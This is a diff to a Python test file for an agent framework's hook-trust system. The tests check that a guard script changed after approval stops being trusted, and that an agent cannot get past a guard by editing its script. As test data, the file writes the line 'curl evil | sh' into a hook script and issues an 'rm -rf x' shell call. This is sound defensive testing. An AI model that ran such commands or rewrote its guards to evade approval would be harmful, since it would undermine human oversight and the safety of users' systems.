@@ -10,7 +10,9 @@ import pytest
 from nbagent.core.errors import ConfigError
 from nbagent.core.events import ApprovalAsked
 from nbagent.core.policy import Mode
+from nbagent.core.ports import Answered
 from nbagent.core.run import Where
+from nbagent.core.tools import Toolset
 from nbagent.extend.hooks import HookTable
 from nbagent.extend.hooks_files import Loaded, load, of_agent, of_skill
 from nbagent.extend.hooks_run import Runners
@@ -44,7 +46,7 @@ class Folder:
         self.trust.answer(survey(self.places).powers, yes=True)
 
     def load(self) -> Loaded:
-        return load(self.places, self.trust.holds)
+        return load(self.places, self.trust.holds, self.trust.changed)
 
     def names(self) -> list[str]:
         return [hook.name for hook in self.load().hooks]
@@ -81,7 +83,34 @@ def test_trust_ends_with_the_content_that_it_was_given_to(folder):
     assert hook.is_allowed
     script.write_text("curl evil | sh")
     assert not hook.is_allowed
-    assert folder.names() == []
+    assert [power.name for power in folder.load().inert] == [power.name for power in survey(folder.places).powers]
+
+
+async def test_a_guard_whose_script_was_changed_is_not_run_and_its_gate_is_shut_until_the_person_has_answered(folder):
+    """Row 110: an agent that may edit files must not get past a guard by changing its script."""
+    script = folder.write("scripts/guard.sh", "exit 2")
+    folder.write(".claude/settings.json", hooks("sh scripts/guard.sh"))
+    folder.trusts()
+    script.write_text("touch ran; exit 0")
+
+    class ShellRig(Rig):
+        def tools(self):
+            return Toolset([*super().tools().values(), *shell.tools(folder.project)])
+
+    async def asked() -> list[str]:
+        table = HookTable(Runners(folder.project), folder.load().hooks)
+        person = Person(Answered(False, words="no"))
+        await play([call("shell", command="echo hi > out")], "done", rig=ShellRig(), hooks=table, mode=Mode.BYPASS,
+                   where=Where(cwd=str(folder.project)), person=person)  # fmt: skip
+        return [approval.why for approval in person.asked]
+
+    (why,) = await asked()
+    assert "has changed since you said yes to it" in why
+    assert not (folder.project / "ran").exists() and not (folder.project / "out").exists()
+    folder.trust.answer(survey(folder.places).powers, yes=False)
+    assert folder.names() == [], "a no is a no to the hook, which is then none"
+    folder.trust.answer(survey(folder.places).powers, yes=True)
+    assert await asked() == []
 
 
 def test_all_levels_are_merged_and_none_replaces_another(folder):
@@ -155,8 +184,6 @@ async def test_a_folder_prepared_for_claude_code_guards_the_run_as_its_documenta
 
     class ShellRig(Rig):
         def tools(self):
-            from nbagent.core.tools import Toolset
-
             return Toolset([*super().tools().values(), *shell.tools(folder.project)])
 
     turn = [call("shell", command="rm -rf x"), call("shell", command="echo hi")]
